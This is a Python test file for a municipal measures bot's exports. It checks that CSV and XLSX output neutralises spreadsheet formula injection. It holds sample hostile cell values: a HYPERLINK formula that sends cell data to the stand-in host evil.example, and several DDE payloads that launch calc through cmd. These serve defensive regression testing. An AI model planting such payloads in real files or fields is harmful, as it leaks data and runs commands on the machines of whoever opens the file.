"""Item 7: formula injection in the exports. An attacker who named a measure
`=HYPERLINK("https://evil.example","Klicka")` (or wrote a note starting with
+ - @ tab or carriage return) got a live formula in `kompetensbot export`'s
CSV and XLSX, run by the spreadsheet of whoever at stadskontoret opened the
file. Now every export writes such text as text: CSV cells get a leading
quote, XLSX cells are text cells (never formulas) with Excel's quote prefix;
numbers stay numbers, a negative one too; and our own CSV export imports
back with the titles as they were written."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from bot.data_services import export_bytes, export_rows, import_template
from bot.round_services import RoundServices
from bot.services import Services
from cli.round_export import write_export
from core.model import Body, Decision, Measure, Status
from core.text import FORMULA_STARTS, from_spreadsheet_text, spreadsheet_text
from storage.templates import csv_cell, read_template
from tests.integration.test_templates import _add_empty_city, export_files

PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "'=": "'=1+1",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
"""One payload for each character OWASP lists as the start of a formula."""

TITLED = ("=", "+", "-", "@", "'=")
"""Prefixes a title can keep (a title is one line: a leading tab or CR is cleaned away)."""


def test_the_neutraliser_covers_the_owasp_set() -> None:
    assert set(FORMULA_STARTS) == set(PAYLOADS) - {"'="}
    for payload in PAYLOADS.values():
        assert spreadsheet_text(payload) == "'" + payload
        assert from_spreadsheet_text(spreadsheet_text(payload)) == payload
    assert spreadsheet_text("Mentorskap - del 2") == "Mentorskap - del 2"
    assert from_spreadsheet_text("'Citat'") == "'Citat'"  # only the quote we add is taken away
    for written in ("'=x", "''+x", "'", "''", "'-"):  # quotes of a person's own come back too
        assert from_spreadsheet_text(spreadsheet_text(written)) == written
    assert csv_cell(-5) == -5 and csv_cell(0) == 0  # numbers are not text


def _hostile_city(engine: Engine) -> dict[str, int]:
    """Measures whose titles, descriptions, performers and follow-up notes start
    like formulas, each with a follow-up in June 2025 (reported on 9 June). Returns payload → measure id."""
    services = Services(engine, org="malmo", clock=lambda: datetime(2025, 6, 9, 10, tzinfo=UTC))
    ids = {}
    for i, (prefix, payload) in enumerate(PAYLOADS.items()):
        title = payload if prefix in TITLED else f"Insats {i}"
        stored = services.submit_measure(
            None,
            Measure(
                id=0,
                title=title,
                units=("GVN",),
                year=2025,
                description=payload,
                target_group=payload,
                end_date=date(2025, 12, 31),
                status=Status.ONGOING,
            ),
            grants={"GVN": 1_000},
            decision=Decision(Body.COMMITTEE, date(2025, 1, 31), paragraph=str(10 + i)),
        )
        services.add_followup(
            None,
            str(stored.id),
            period="2025-06",
            status=Status.ONGOING,
            spent=0,
            forecast=0,
            usable_as_planned=False,
            note=payload,
        )
        ids[payload] = stored.id
    return ids


def _assert_text_cell(value: object, payload: str, fmt: str) -> None:
    if fmt == "csv":
        assert value == "'" + payload, (value, payload)
    else:  # XML reads a carriage return in a text node as a line feed
        assert value == payload.replace("\r", "\n"), (value, payload)


def _xlsx_cells(data: bytes, sheet: str | None = None) -> list[list[object]]:
    book = load_workbook(io.BytesIO(data))  # not data_only: a formula would read as "=…" with type "f"
    ws = book[sheet] if sheet else book.worksheets[0]
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS):
                assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    return [[c.value for c in row] for row in ws.iter_rows()]


def _id(cell: object) -> int:
    """A measure's id as its cell holds it: text in CSV, a number in xlsx."""
    assert isinstance(cell, int | str), cell
    return int(cell)


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_kompetensbot_export_writes_formula_text_as_text(example_engine: Engine, fmt: str) -> None:
    ids = _hostile_city(example_engine)
    data = export_bytes(export_rows(example_engine, "malmo", None, 2025), fmt)
    lines = _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)
    header = [str(h) for h in lines[0]]
    by_title = {str(line[header.index("Insats")]): line for line in lines[1:]}
    for i, (prefix, payload) in enumerate(PAYLOADS.items()):
        title = payload if prefix in TITLED else f"Insats {i}"
        shown = "'" + title if fmt == "csv" and prefix in TITLED else title
        line = by_title[shown]
        for column in ("Beskrivning", "Målgrupp"):
            _assert_text_cell(line[header.index(column)], payload, fmt)
    assert len(ids) == len(PAYLOADS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_followup_export_writes_formula_text_as_text_and_numbers_as_numbers(
    example_engine: Engine, tmp_path: Path, fmt: str
) -> None:
    ids = _hostile_city(example_engine)
    rounds = RoundServices(example_engine, org="malmo")
    rounds.open(None, "2025-06")
    report = rounds.report(None, "2025-06", date(2025, 6, 10))
    path = tmp_path / f"round.{fmt}"
    write_export(report, path)
    data = path.read_bytes()
    lines = _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)
    header = [str(h) for h in lines[0]]
    by_id = {_id(line[header.index("Id")]): line for line in lines[1:]}
    for prefix, payload in PAYLOADS.items():
        line = by_id[ids[payload]]
        if prefix in TITLED:
            _assert_text_cell(line[header.index("Insats")], payload, fmt)
        _assert_text_cell(line[header.index("Kommentar")], payload, fmt)
    if fmt == "xlsx":  # amounts are numbers, not text: a sum over the column works
        amounts = [line[header.index("Tilldelat (kr)")] for line in lines[1:]]
        assert all(isinstance(a, int) for a in amounts)
        _xlsx_cells(data, "Per nämnd")
        _xlsx_cells(data, "Omfördelningsförslag")


def test_a_negative_number_stays_a_number(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from storage.templates import append_xlsx_row

    book = Workbook()
    append_xlsx_row(book.active, [-5, -1.5, "-5", 0])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    [[number, fraction, text, zero]] = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert number == (-5, "n") and fraction == (-1.5, "n") and zero == (0, "n")
    assert text == ("-5", "s")
    assert csv_cell(-5) == -5 and csv_cell("-5") == "'-5"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_our_own_export_imports_back_with_the_titles_as_written(
    example_engine: Engine, tmp_path: Path, fmt: str
) -> None:
    _hostile_city(example_engine)
    _add_empty_city(example_engine, "nystad")
    rows = export_rows(example_engine, "malmo", None, 2025)
    paths = export_files(example_engine, "malmo", fmt, tmp_path)  # the needs' sheet or file too

    _, read = read_template(paths[0])
    assert {r["Insats"] for r in read} == {r["Insats"] for r in rows}  # no quote gained
    import_template(
        example_engine,
        "nystad",
        None,
        paths,
        year=2025,
        as_of=date(2025, 3, 1),
        decision_text="KS 2025-03-05",
    )
    titles = {m.title for m in Services(example_engine, org="nystad").ledger().measures.values()}
    assert {PAYLOADS[p] for p in TITLED} <= titles  # exactly as written: no quote gained or lost
    assert {t for t in titles if t.startswith("'")} == {PAYLOADS["'="]}
